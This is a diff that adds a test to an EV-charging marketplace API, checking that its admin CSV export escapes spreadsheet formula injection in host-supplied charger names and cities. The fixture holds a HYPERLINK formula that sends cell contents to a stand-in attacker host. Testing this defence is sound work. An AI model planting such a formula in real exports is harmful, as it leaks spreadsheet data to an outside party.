@@ -408,3 +408,45 @@ async def test_figures_match_hand_computed_sql_over_a_month(
     assert (
         await api.get("/admin/figures", params=params, headers=driver.headers)
     ).status_code == 403
+
+
+async def test_host_text_in_the_figures_csv_opens_as_text_not_a_formula(
+    market_api: Api, pg: PgConnection
+) -> None:
+    """A charger's name and city are the host's text: in the CSV, one starting with a
+    formula character (``= + - @``, tab, carriage return: OWASP's list) gets a leading
+    apostrophe, so a spreadsheet shows it instead of running it; numbers are left alone."""
+    api, s = market_api.client, market_api.settings
+    admin = await add_user(pg, s, Role.ADMIN)
+    host, driver = await add_user(pg, s, Role.HOST), await add_user(pg, s, Role.DRIVER)
+    charger = await add_charger(pg, host)
+    name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    await pg.execute(
+        "UPDATE chargers SET name = $2, city = $3 WHERE id = $1", charger.id, name, "@SUM(1+1)"
+    )
+    start = T0 + timedelta(days=2, hours=10)
+    await pg.execute(
+        "INSERT INTO sessions (device_id, device_session_id, connector_number, charger_id, "
+        "user_id, credential_kind, credential_ref, state, started_at, stopped_at, "
+        "meter_start_wh, meter_stop_wh, energy_wh, last_event_seq, events_received) "
+        "VALUES ($1, $2, 1, $3, $4, 'Remote', 'r', 'stopped', $5, $6, 0, 900, 900, 1, 1)",
+        charger.device_id, new_ulid(), charger.id, driver.id, start, start + timedelta(hours=1),
+    )  # fmt: skip
+    params = {"from": "2026-11-01", "to": "2026-11-30", "format": "csv"}
+    chargers = await api.get(
+        "/admin/figures", params=params | {"table": "chargers"}, headers=admin.headers
+    )
+    assert chargers.status_code == 200, chargers.text
+    (row,) = [
+        r for r in csv.DictReader(io.StringIO(chargers.text)) if r["charger_id"] == charger.id
+    ]
+    assert (row["name"], row["city"]) == ("'" + name, "'@SUM(1+1)")
+    assert (int(row["sessions"]), int(row["energy_wh"])) == (1, 900)
+    cities = await api.get(
+        "/admin/figures", params=params | {"table": "cities"}, headers=admin.headers
+    )
+    assert [r["city"] for r in csv.DictReader(io.StringIO(cities.text))] == ["'@SUM(1+1)"]
+    # The JSON is data, not a spreadsheet: there the text is as the host wrote it.
+    body = (await api.get("/admin/figures", params=params | {"format": "json"},
+                          headers=admin.headers)).json()  # fmt: skip
+    assert [c["name"] for c in body["chargers"] if c["charger_id"] == charger.id] == [name]
